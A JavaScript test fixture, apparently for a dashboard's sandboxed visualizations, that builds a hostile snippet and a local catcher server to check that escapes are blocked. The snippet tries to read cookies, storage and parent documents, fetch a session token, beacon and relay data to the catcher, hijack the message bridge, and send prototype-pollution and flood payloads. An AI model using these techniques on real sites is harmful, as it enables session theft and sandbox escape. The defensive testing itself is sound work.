// A visualization that tries to get at what it must not: other machines, the page, its session, the devices.
import { createServer } from "node:http";

/** How it ends. Each takes the frame away, so that one run sees one of them. */
export const ENDS = {
  leave: (catcher) => `location.href = "${catcher}/self";`,
  refresh: (catcher) => `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=${catcher}/refresh">');`,
  home: () => `location = "/";`,
  flood: () => `for (let count = 0; count < 5000; count++) send.call(bridge, { id: 9, body: { ask: "values", wanted: [] } });`,
};

/** Before what an attempt came to, in the console. */
export const REPORT = "hostile|";

/** A document inside the frame would tell that it runs, and connect past every policy. */
const inner = (catcher, how) => `<script>
parent.postMessage({ inner: "${how}" }, "*");
const peer = new RTCPeerConnection({ iceServers: [{ urls: "${catcher.replace("http://", "turn:")}?transport=tcp", username: "a", credential: "b" }], iceTransportPolicy: "relay" });
peer.createDataChannel("a");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
</script>`;

/** As text of a script inside of a script. */
const quoted = (text) => JSON.stringify(text).replaceAll("</", "<\\/");

/** Attempts report into the console, by which a test reads them; the last line is `end`. */
export const snippet = (catcher, paramId, end) => `
<p>hostile</p>
<base href="${catcher}/">
<a id="out" href="${catcher}/link" target="_top">out</a>
<a id="blank" href="${catcher}/blank" target="_blank">blank</a>
<form id="form" action="${catcher}/form" method="post" target="_top"><input name="a" value="b"></form>
<form id="own" action="${catcher}/own-form"><input name="a" value="b"></form>
<img src="${catcher}/image"><link rel="stylesheet" href="${catcher}/style"><iframe src="${catcher}/frame"></iframe>
<link rel="prefetch" href="${catcher}/prefetch"><link rel="preload" as="image" href="${catcher}/preload"><link rel="modulepreload" href="${catcher}/modulepreload">
<object data="${catcher}/object"></object><embed src="${catcher}/embed"><video src="${catcher}/video"></video>
<svg><image href="${catcher}/svg-image" /><use href="${catcher}/svg-use#a" /></svg>
<style>@import "${catcher}/import"; @font-face { font-family: hostile; src: url("${catcher}/font"); } p { font-family: hostile; background: url("${catcher}/background"); }</style>
<iframe sandbox="allow-scripts allow-top-navigation allow-popups" srcdoc="${inner(catcher, "text").replaceAll('"', "&quot;")}"></iframe>
<script src="${catcher}/script"></script>
<div param-value="#${paramId}">…</div>
<script>
const say = (name, result) => console.info("${REPORT}" + name + "|" + result);
const sync = (name, attempt) => {
  try {
    const result = attempt();
    say(name, result ? "done " + result : "blocked");
  } catch {
    say(name, "blocked");
  }
};
const waiting = [];
const late = (name, attempt) => waiting.push(attempt().then((result) => say(name, "done " + result), () => say(name, "blocked")));
sync("cookie", () => document.cookie);
sync("storage", () => String(localStorage.length + 1));
sync("parent", () => parent.document.title);
sync("top", () => top.document.title);
sync("token", () => JSON.stringify(parent.parabusReady));
sync("popup", () => window.open("${catcher}/popup"));
sync("top navigation", () => { top.location.href = "${catcher}/top"; });
sync("link", () => { document.querySelector("#out").click(); });
sync("link to a new page", () => { document.querySelector("#blank").click(); });
sync("form", () => { document.querySelector("#form").submit(); });
sync("form of its own", () => { document.querySelector("#own").submit(); });
sync("socket", () => { new WebSocket("${catcher}/socket".replace("http", "ws")); });
sync("events", () => { new EventSource("${catcher}/events"); });
sync("worker", () => { new Worker("${catcher}/worker"); });
sync("beacon", () => { navigator.sendBeacon("${catcher}/beacon", "x"); });
sync("peer", () => typeof RTCPeerConnection === "undefined" ? "" : "there");
sync("dialog", () => window.prompt("password"));
late("fetch elsewhere", () => fetch("${catcher}/fetch", { mode: "no-cors" }).then(() => "sent"));
late("fetch the API", () => fetch("/api/v1/user/orgs/").then((reply) => reply.status));
late("fetch a token", () => fetch("/session/token/", { method: "POST", credentials: "include" }).then((reply) => reply.status));
late("module", () => import("${catcher}/module"));
late("database", () => new Promise((done, refuse) => { const request = indexedDB.open("a"); request.onsuccess = () => done("open"); request.onerror = refuse; }));
const inside = [];
addEventListener("message", ({ data }) => { if (data.inner) inside.push(data.inner); });
// By a script, under a name that looks like another, where nobody looks.
Element.prototype.remove = () => {};
const frame = document.createElement("iframe");
frame.srcdoc = ${quoted(inner(catcher, "element"))};
document.body.append(frame);
const named = document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe");
named.setAttribute("srcdoc", ${quoted(inner(catcher, "prefix"))});
document.body.append(named);
sync("shadow", () => { document.createElement("div").attachShadow({ mode: "open" }); return "made"; });
sync("shadow of a text", () => { document.createElement("div").setHTMLUnsafe(""); return "made"; });
sync("document written anew", () => { document.open(); return "opened"; });
waiting.push(new Promise((done) => setTimeout(() => {
  say("frames inside", inside.length > 0 ? "done " + inside : "blocked");
  done();
}, 1000)));
parent.postMessage({ id: 1, body: { ask: "write", ref: "#${paramId}", value: "60" } }, "*");
// The bridge's own port can be had by changing what it is sent with.
const send = MessagePort.prototype.postMessage;
let bridge;
let allRefused;
waiting.push(new Promise((done) => { allRefused = done; }));
const REFUSED = { "write without a touch": { ask: "write", ref: "#${paramId}", value: "60" }, "toggle without a touch": { ask: "toggle", ref: "#${paramId}", off: "60", on: "70" },
  "form without a touch": { ask: "edit", ref: "#${paramId}" }, "text without a touch": { ask: "editText", key: "__proto__" }, "go elsewhere": { ask: "goto", kind: "device", refs: ["#1"] } };
const polluted = JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}');
const huge = "9".repeat(5_000_000);
const UNHEARD = ["no message", null, 7, [], polluted, { id: -90, body: polluted }, { id: "-91", body: { ask: "texts" } }, { id: -92, body: { ask: "constructor", ref: {} } }, { id: -93, body: { ask: "__proto__" } },
  { id: -94, body: { ask: "write", ref: "#${paramId}", value: huge } }, { id: -95, body: { ask: "values", wanted: [{ token: huge, isExact: true }] } }, { id: -96, body: { ask: "values", wanted: Array(1001).fill({ token: "#1" }) } },
  { id: -97, body: { ask: "write", ref: "#1 #2", value: "1" } }, { id: -98, body: { ask: "height", height: NaN } }, { id: -99, body: { ask: "token" } }, { ...polluted, id: -100, body: { ...polluted, ask: "api", path: "/user/orgs/" } }];
MessagePort.prototype.postMessage = function (message) {
  send.call(this, message);
  if (bridge) return;
  bridge = this;
  const names = Object.keys(REFUSED);
  const replies = new Map(names.map((name, index) => [-1 - index, name]));
  this.addEventListener("message", ({ data }) => {
    if (replies.has(data.id)) say(replies.get(data.id), data.err ? "blocked" : "done");
    replies.delete(data.id);
    if (replies.size === 0) allRefused();
    if (data.id <= -90) say("message " + data.id, "done " + JSON.stringify(data));
    // Own names of a reply are data, and those of every object are none.
    if (data.id === -50) say("names of every object", data.ok?.every(({ text }) => text === "NOP") ? "blocked" : "done " + JSON.stringify(data));
    // Replies come in the order of the questions, but for the slow ones.
    if (data.id !== -51) return;
    Promise.all(waiting).then(() => setTimeout(() => {
      say("end", "");
      ${ENDS[end](catcher)}
    }));
  });
  for (const message of UNHEARD) send.call(this, message);
  names.forEach((name, index) => send.call(this, { id: -1 - index, body: REFUSED[name] }));
  send.call(this, { id: -49, body: { ask: "height", height: 1e9 } });
  send.call(this, { id: -50, body: { ask: "values", wanted: ["constructor", "__proto__", "toString"].map((token) => ({ token, isExact: false })) } });
  send.call(this, { id: -51, body: { ask: "values", wanted: [{ token: "#${paramId}", isExact: true }] } });
};
</script>`;

/** A server of another origin that must never be asked anything. */
export async function catcher() {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.end();
  });
  // Not all that connects speaks HTTP. Chromium connects ahead of a navigation, and says nothing where the policy then refuses it.
  server.on("connection", (socket) => socket.once("data", (bytes) => asked.push(`${bytes.length} bytes`)));
  await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
  return { url: `http://127.0.0.1:${server.address().port}`, asked, close: () => server.close() };
}
